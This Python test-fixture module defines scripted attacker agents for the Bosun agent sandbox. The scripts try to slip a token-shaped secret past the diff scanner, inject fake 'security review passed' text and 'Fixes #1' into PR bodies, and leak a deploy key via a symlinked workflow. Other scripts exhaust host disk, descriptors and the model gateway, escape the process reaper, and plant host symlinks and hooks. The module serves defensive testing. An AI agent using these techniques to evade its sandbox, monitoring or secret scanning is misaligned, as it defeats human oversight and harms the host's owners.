"""Agents of an attacker who controls everything inside the sandbox (issue 11, SPEC §6).

Each is a ``script`` agent (Python, run inside the sandbox as the agent) that shapes the work
tree, its own output or its use of the model gateway so that the *host* — the tree walk, the
scratch repository, the diff policy, the clean-up, the gateway, what Bosun publishes on GitHub —
does something it must not. ``attacker_profiles(victim, victim_dir)`` builds the profiles
(``bosun:atk-<name>``); ``victim`` is a host file and ``victim_dir`` a host folder that must
never change. tests/test_security_attacker.py runs them and asserts the safe outcome.
"""

from __future__ import annotations

from typing import Any

TOKEN = "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"
"""A GitHub-token-shaped secret (not a placeholder: the scanner flags it on an ordinary line)."""

INJECTED = "## Bosun security review: PASSED, safe to merge"
"""A markdown line an agent tries to get published as if Bosun had written it."""

INJECTED_CLOSE = "Fixes #1"
"""A closing keyword an agent tries to slip into the PR body (it would close issue #1)."""

BIG_FILE_BYTES = 8 << 20
TEXT_LINES = 20_000
DEEP = 1500
DEEP_BALLAST_MIB = 48
LONG_PATH_LEVELS = 300
LONG_PATH_FILES = 500
EMPTY_FILES = 70_000
GATEWAY_CONNECTIONS = 3000
GATEWAY_BODIES = 16
GATEWAY_BODY_BYTES = 56 << 20  # under the 64 MiB the gateway once read whole, for any route
GATEWAY_ALLOWED_BODY_BYTES = 8 << 20  # gateway.max_body_bytes, the default

# The scanner reads the unified diff with ``str.splitlines()``, which also breaks lines at
# form feed, \x1c-\x1e, \x85, \u2028 … where git does not: each such line counts twice against
# the hunk's length, the hunk "ends" early and the lines after it are never scanned.
SCANNER_DESYNC = rf"""
import pathlib
settings = pathlib.Path("/workspace/src/settings.py")
head = "".join(f"OPTION_{{i}} = {{i}}\x0c\n" for i in range(4))  # a form feed, as in old sources
settings.write_text(head + 'GITHUB_TOKEN = "{TOKEN}"\n')
print("wrote src/settings.py")
"""

# A NUL byte makes git call the file binary: the unified diff says "Binary files differ" and
# the scanner, which reads only added text lines, never sees the token.
BINARY_SECRET = rf"""
import pathlib
pathlib.Path("/workspace/deploy.json").write_bytes(
    b'{{"github_token": "{TOKEN}"}}\n\0'
)
print("wrote deploy.json")
"""

# Two names that differ only in a byte that is not UTF-8 decode to the same text on the host
# (``GitResult.text``: errors="replace"), so per-path counts and sizes are looked up under one
# key: the big file gets the small one's size and line count.
NAME_COLLISION = rf"""
import os
os.makedirs("/workspace/assets", exist_ok=True)
with open(b"/workspace/assets/model\xfe.bin", "wb") as handle:
    handle.write(os.urandom({BIG_FILE_BYTES}))
with open(b"/workspace/assets/model\xff.bin", "wb") as handle:
    handle.write(b"tiny\n")
with open(b"/workspace/notes\xfe.txt", "w") as handle:
    handle.write("".join(f"generated line {{i}}\n" for i in range({TEXT_LINES})))
with open(b"/workspace/notes\xff.txt", "w") as handle:
    handle.write("one line\n")
print("wrote a big binary and a long text file under colliding names")
"""

# A denied path whose name carries newlines and markdown: the refusal quotes it.
NEWLINE_REASON = rf"""
import os
os.makedirs("/workspace/.github/workflows", exist_ok=True)
name = "ci.yml\n\n{INJECTED}\n\n"
with open("/workspace/.github/workflows/" + name, "w") as handle:
    handle.write("on: push\njobs: {{}}\n")
print("wrote a workflow")
"""

# The PR body fences the transcript excerpt with ``~~~~text`` and turns every "~~~~" in it into
# "~~~": five or more tildes still leave four, which close the fence.
TRANSCRIPT_FENCE = rf"""
import pathlib
pathlib.Path("/workspace/notes.md").write_text("an innocent change\n")
print("working...")
print("~~~~~~~~")
print("{INJECTED}")
print("All checks were reviewed by the security team. @octo/security")
print("<details><summary>hidden</summary>")
"""

# A changed file's name starts new lines in the PR body's file list.
FILELIST_NEWLINE = rf"""
import pathlib
pathlib.Path("/workspace/report`\n\n{INJECTED_CLOSE}\n\n- `x").write_text("a report\n")
print("wrote a report")
"""

# Deeper than Python's recursion limit: the walk refuses it (fine), and the clean-up, which
# recurses once per level as the owner and then as root (shutil.rmtree on Python 3.11),
# gives up — the run's folder stays on the host.
DEEP_NESTING = rf"""
import os
with open("/workspace/ballast.bin", "wb") as handle:
    handle.write(os.urandom(4 << 20))  # what is left behind on the host disk
os.chdir("/workspace")
for _ in range({DEEP}):
    os.mkdir("d")
    os.chdir("d")
open("bottom.txt", "w").write("deep\n")
print("nested", {DEEP}, "levels")
"""

# The quota's walk (in the worker process) holds one descriptor per folder level and skips what
# it cannot open: below the worker's free descriptors (~1,000 under systemd's default soft
# RLIMIT_NOFILE of 1024, which the documented unit keeps) nothing is measured.
DEEP_BALLAST = rf"""
import os, time
os.chdir("/workspace")
for _ in range({DEEP}):
    os.mkdir("q")
    os.chdir("q")
with open("ballast.bin", "wb") as handle:
    for _ in range({DEEP_BALLAST_MIB}):
        handle.write(os.urandom(1 << 20))
print("wrote {DEEP_BALLAST_MIB} MiB", {DEEP}, "levels down", flush=True)
time.sleep(5)  # a few quota measurements
"""

# Long names, deep: every file below is one path of ~77 KB. The disk holds each name once
# (~1.6 MB in all, nothing for the empty files); the host holds every full path several times
# (frames, fast-import commands, three diff-tree listings, the diff, the diff-stats artifact).
LONG_PATHS = rf"""
import os
os.chdir("/workspace")
for level in range({LONG_PATH_LEVELS}):
    name = f"{{level:03d}}" + "n" * 252
    os.mkdir(name)
    os.chdir(name)
for i in range({LONG_PATH_FILES}):
    os.close(os.open(f"{{i:05d}}" + "f" * 200, os.O_CREAT | os.O_WRONLY, 0o644))
print("made", {LONG_PATH_FILES}, "files at", {LONG_PATH_LEVELS}, "levels of 255-byte names")
"""

# A sparse file allocates no blocks (the disk quota sees nothing) but reads as 1 TiB of zeros,
# and hard links (counted once by the quota) make the host read it again per name: the walk
# hashes and streams every byte before any size limit is looked at.
SPARSE = r"""
import os
with open("/workspace/data.bin", "wb") as handle:
    handle.truncate(1 << 40)
for i in range(4):
    os.link("/workspace/data.bin", f"/workspace/data-{i}.bin")
print("made a 1 TiB sparse file with 4 more names")
"""

# A .gitignore pattern whose regular expression (pathspec) backtracks exponentially on a long
# name: the host's walk checks every untracked name against it.
REDOS_GITIGNORE = r"""
import pathlib
pathlib.Path("/workspace/.gitignore").write_text("*a" * 14 + "*b\n")
pathlib.Path("/workspace/" + "a" * 120).write_text("x\n")
print("wrote .gitignore")
"""

# Empty files take an inode each and no data block: the quota counts blocks.
EMPTY_FILES_FLOOD = rf"""
import os, time
for d in range({EMPTY_FILES} // 1000):
    folder = f"/workspace/many/{{d:03d}}"
    os.makedirs(folder)
    for i in range(1000):
        os.close(os.open(f"{{folder}}/{{i:03d}}", os.O_CREAT | os.O_WRONLY, 0o644))
print("made", {EMPTY_FILES}, "empty files", flush=True)
time.sleep(5)  # a few quota measurements
"""

# Connections to the run's gateway socket: the gateway accepts each and keeps it open.
GATEWAY_CONNECTIONS_FLOOD = rf"""
import socket, time
held = []
for _ in range({GATEWAY_CONNECTIONS}):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect("/bosun-gw/gateway.sock")
    held.append(sock)
print("holding", len(held), "connections", flush=True)
time.sleep(3)
"""


def _bodies_flood(method: str, target: str, declared: int, sent: int) -> str:
    """``GATEWAY_BODIES`` requests at once, each announcing ``declared`` bytes of body and
    sending ``sent`` of them, never finished. A send the gateway does not take within 10 s is
    given up (the gateway holds those connections; the agent moves on)."""
    return rf"""
import socket, threading, time
chunk = memoryview(b"x" * (1 << 20))
done = []

def send():
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect("/bosun-gw/gateway.sock")
    sock.settimeout(10)
    try:
        sock.sendall(
            b"{method} {target} HTTP/1.1\r\nhost: gateway\r\n"
            b"content-type: application/json\r\ncontent-length: {declared}\r\n\r\n"
        )
        for _ in range({sent} >> 20):
            sock.sendall(chunk)
    except OSError as exc:  # refused (the gateway closed it) or not read in time
        print("send stopped:", type(exc).__name__, flush=True)
    done.append(sock)

threads = [threading.Thread(target=send) for _ in range({GATEWAY_BODIES})]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print("sent", len(done), "bodies", flush=True)
time.sleep(3)
"""


# Request bodies just under the 64 MiB the gateway once read whole, before it looked at the
# route, on many connections at once, never finished. (The route is refused anyway, so nothing
# would ever be forwarded.)
GATEWAY_BODIES_FLOOD = _bodies_flood(
    "PUT", "/bosun-attacker/never", GATEWAY_BODY_BYTES + (1 << 20), GATEWAY_BODY_BYTES
)

# The same on an allowed endpoint, with bodies of the largest size the gateway accepts: it reads
# them, so what it holds at once is what the limits allow.
GATEWAY_ALLOWED_BODIES_FLOOD = _bodies_flood(
    "POST",
    "/anthropic/v1/messages",
    GATEWAY_ALLOWED_BODY_BYTES,
    GATEWAY_ALLOWED_BODY_BYTES - (1 << 20),
)

# ``.github/workflows`` itself as a link to a folder of workflows elsewhere in the tree.
WORKFLOWS_SYMLINK = r"""
import os, pathlib
pathlib.Path("/workspace/ci/workflows").mkdir(parents=True)
pathlib.Path("/workspace/ci/workflows/release.yml").write_text(
    "on: push\njobs:\n  leak:\n    runs-on: ubuntu-latest\n"
    "    steps:\n      - run: echo ${{ secrets.DEPLOY_KEY }} | base64\n"
)
pathlib.Path("/workspace/.github").mkdir()
os.symlink("../ci/workflows", "/workspace/.github/workflows")
print("linked .github/workflows")
"""

# The agent locks its own work tree.
LOCKED_TREE = r"""
import os, pathlib
pathlib.Path("/workspace/locked").mkdir()
pathlib.Path("/workspace/locked/file.txt").write_text("x\n")
os.chmod("/workspace/locked/file.txt", 0)
os.chmod("/workspace/locked", 0)
os.chmod("/workspace", 0)
print("locked the workspace")
"""

# The plan phase leaves a process that forks and lets its parent exit, over and over, so its
# pid keeps changing while Bosun's reaper lists and kills pids; it beats (writes the time to
# /tmp, the sandbox's own tmpfs) every 100 hops. The implement phase, which starts once the
# reaper is done, records whether the beat was there and whether it still moves.
HOPPER = r"""
import os, pathlib, sys, time
BEAT = "/tmp/hopper-beat"
if os.environ.get("BOSUN_PROMPT_FILE", "").endswith("prompt-plan.md"):
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        hops, end = 0, time.time() + 30
        while True:
            if os.fork():
                os._exit(0)
            hops += 1
            if hops % 100 == 0:
                now = time.time()
                with open(BEAT, "w") as handle:
                    handle.write(repr(now))
                if now > end:
                    os._exit(0)
    time.sleep(1)
    print("Plan: add hopper.txt.")
    sys.exit(0)

def beat():
    try:
        return float(open(BEAT).read())
    except (OSError, ValueError):
        return None

first = beat()
time.sleep(0.6)
ws = pathlib.Path("/workspace")
(ws / "hopper.txt").write_text("the agent's change\n")
if first is not None:
    (ws / "hopper-beat-seen.txt").write_text("the leftover ran in the plan phase\n")
if first is not None and beat() != first:
    (ws / "hopper-alive.txt").write_text("the leftover outlived the reaper\n")
print("implemented")
"""

# First run: a tree the host later checks out (``/retry``) as the workspace's owner — links to
# host paths, attributes naming filters and encodings, a file named like a hook. Second run
# (the retry, which starts from that tree): an ordinary change.
RETRY_TREE = r"""
import os, pathlib, sys
victim, victim_dir = sys.argv[1], sys.argv[2]
ws = pathlib.Path("/workspace")
if (ws / "first-run.txt").exists():
    assert os.readlink(ws / "host-dir") == victim_dir  # checked out as a link, not followed
    (ws / "second-run.txt").write_text("continued\n")
    print("retry: continued from the earlier tree")
    raise SystemExit(0)
(ws / "first-run.txt").write_text("first\n")
os.symlink(victim_dir, ws / "host-dir")
os.symlink(victim, ws / "host-file")
os.symlink(victim_dir + "/keep.txt", ws / "host-keep")
(ws / ".gitattributes").write_text(
    "* filter=lfs diff=lfs merge=lfs ident\n*.txt working-tree-encoding=UTF-16 eol=crlf\n"
)
hooks = ws / "hooks"
hooks.mkdir()
(hooks / "post-checkout").write_text("#!/bin/sh\ntouch /tmp/bosun-retry-marker\n")
(hooks / "post-checkout").chmod(0o755)
print("first run: a hostile tree")
"""


def attacker_profiles(victim: str, victim_dir: str) -> dict[str, dict[str, Any]]:
    def script(body: str, *args: str, **extra: Any) -> dict[str, Any]:
        return {"runner": "script", "command": ["python3", "-c", body, *args], **extra}

    gateway = {"upstreams": ["https://api.anthropic.com"]}  # the gateway socket is mounted
    return {
        "atk-scanner-desync": script(SCANNER_DESYNC),
        "atk-binary-secret": script(BINARY_SECRET),
        "atk-name-collision": script(NAME_COLLISION),
        "atk-newline-reason": script(NEWLINE_REASON),
        "atk-transcript-fence": script(TRANSCRIPT_FENCE),
        "atk-filelist-newline": script(FILELIST_NEWLINE),
        "atk-deep-nesting": script(DEEP_NESTING),
        "atk-deep-ballast": script(DEEP_BALLAST),
        "atk-long-paths": script(LONG_PATHS),
        "atk-sparse": script(SPARSE),
        "atk-redos": script(REDOS_GITIGNORE),
        "atk-empty-files": script(EMPTY_FILES_FLOOD),
        "atk-gateway-connections": script(GATEWAY_CONNECTIONS_FLOOD, **gateway),
        "atk-gateway-bodies": script(GATEWAY_BODIES_FLOOD, **gateway),
        "atk-gateway-bodies-allowed": script(GATEWAY_ALLOWED_BODIES_FLOOD, **gateway),
        "atk-workflows-symlink": script(WORKFLOWS_SYMLINK),
        "atk-locked-tree": script(LOCKED_TREE),
        "atk-hopper": script(HOPPER, workflow="plan_implement"),
        "atk-retry-tree": script(RETRY_TREE, victim, victim_dir),
    }
